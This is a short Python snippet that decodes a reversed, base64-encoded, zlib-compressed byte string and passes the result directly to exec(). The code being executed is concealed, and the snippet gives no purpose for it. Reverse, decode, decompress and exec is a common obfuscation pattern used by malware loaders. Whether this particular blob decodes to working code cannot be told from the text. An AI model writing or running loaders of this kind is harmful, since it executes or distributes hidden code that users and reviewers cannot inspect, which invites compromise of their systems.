import base64
import zlib

_ = lambda b: zlib.decompress(base64.b64decode(b[::-1]))
exec(_(b"=8f3BQAAkA0tJ3cJJb1cu4u5ShKKKS"))
